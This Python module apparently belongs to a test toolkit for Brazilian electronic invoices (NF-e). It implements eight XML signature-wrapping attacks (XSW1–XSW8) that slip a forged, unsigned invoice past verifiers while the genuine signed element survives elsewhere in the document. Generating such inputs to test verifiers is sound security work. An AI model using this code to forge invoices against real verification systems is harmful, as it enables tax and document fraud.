"""Signature wrapping: XSW1 to XSW8 of the SAML literature (Somorovsky et al., 2012) for DF-e.

In each the genuine signed element survives somewhere, so a verifier that looks for the Id
anywhere finds a digest that matches, while the element in the document's place is forged.
xmlsec itself accepts 2, 3, 4, 5 and 7; the others fool verifiers that skip the enveloped transform.
"""

from collections.abc import Callable, Mapping

from lxml import etree

from .documents import build
from .paths import Element, namespace, to_bytes
from .signing import DSIG

_Attack = Callable[[Element, Element, Element, Element], None]


def xsw(genuine: bytes, variant: int, forged: bytes | None = None) -> bytes:
    """`genuine` (signed) with `forged` in its place: a document of the same kind, with its own
    Id and no signature; by default, an NF-e of another number and emitter."""
    root = etree.fromstring(genuine)
    signature = _outermost_signature(root)
    envelope = signature.getparent()
    if envelope is None:
        raise LookupError("a signature that is the root signs no document")
    signed_id = next(signature.iter(f"{{{DSIG}}}Reference")).get("URI", "")[1:]
    signed = next(e for e in envelope if e.get("Id") == signed_id)
    source = etree.fromstring(forged or _forged_nfe())
    false = next(e for e in source.iter(str(signed.tag)))
    signed.addprevious(false)
    XSW_VARIANTS[variant](envelope, false, signed, signature)
    return to_bytes(root)


def _forged_nfe() -> bytes:
    return build(
        "nfe", sign=False, changes={"ide/nNF": "9999", "emit/xNome": "EMITENTE FORJADO LTDA"}
    )


def _outermost_signature(root: Element) -> Element:
    return min(root.iter(f"{{{DSIG}}}Signature"), key=lambda s: len(list(s.iterancestors())))


def _xsw1(envelope: Element, _false: Element, signed: Element, signature: Element) -> None:
    """The whole genuine document moves into the signature of the forged one."""
    signature.append(_document_of(envelope, signed))


def _xsw2(envelope: Element, _false: Element, signed: Element, signature: Element) -> None:
    """The whole genuine document moves beside the signature, which becomes detached."""
    signature.addprevious(_document_of(envelope, signed))


def _xsw3(_envelope: Element, false: Element, signed: Element, _signature: Element) -> None:
    """The genuine element stays as second sibling; the forged one comes first."""
    false.addnext(signed)


def _xsw4(_envelope: Element, false: Element, signed: Element, _signature: Element) -> None:
    """The forged element wraps the genuine one as its last child."""
    false.append(signed)


def _xsw5(envelope: Element, false: Element, signed: Element, signature: Element) -> None:
    """The signature moves into the forged element; the genuine one goes to the end."""
    false.append(signature)
    envelope.append(signed)


def _xsw6(_envelope: Element, false: Element, signed: Element, signature: Element) -> None:
    """The signature moves into the forged element, and the genuine one into the signature."""
    false.append(signature)
    _hide(signed, signature)


def _xsw7(envelope: Element, false: Element, signed: Element, _signature: Element) -> None:
    """An extension before the forged element hides the genuine one; both have the same Id."""
    false.set("Id", str(signed.get("Id")))
    extension = etree.Element(f"{{{namespace(envelope)}}}extensao")
    false.addprevious(extension)
    extension.append(signed)


def _xsw8(_envelope: Element, false: Element, signed: Element, signature: Element) -> None:
    """An Object of the signature hides the genuine element; both have the same Id."""
    false.set("Id", str(signed.get("Id")))
    _hide(signed, etree.SubElement(signature, f"{{{DSIG}}}Object"))


def _hide(signed: Element, holder: Element) -> None:
    # Moved as it is under another default namespace, lxml would give it a prefix and so
    # change its canonical form; parsed alone, it carries its own declaration.
    holder.append(etree.fromstring(etree.tostring(signed, with_tail=False)))
    envelope = signed.getparent()
    if envelope is not None:
        envelope.remove(signed)


def _document_of(envelope: Element, signed: Element) -> Element:
    document = etree.Element(envelope.tag, dict(envelope.attrib), nsmap=envelope.nsmap)
    document.append(signed)
    return document


XSW_VARIANTS: Mapping[int, _Attack] = {
    1: _xsw1,
    2: _xsw2,
    3: _xsw3,
    4: _xsw4,
    5: _xsw5,
    6: _xsw6,
    7: _xsw7,
    8: _xsw8,
}
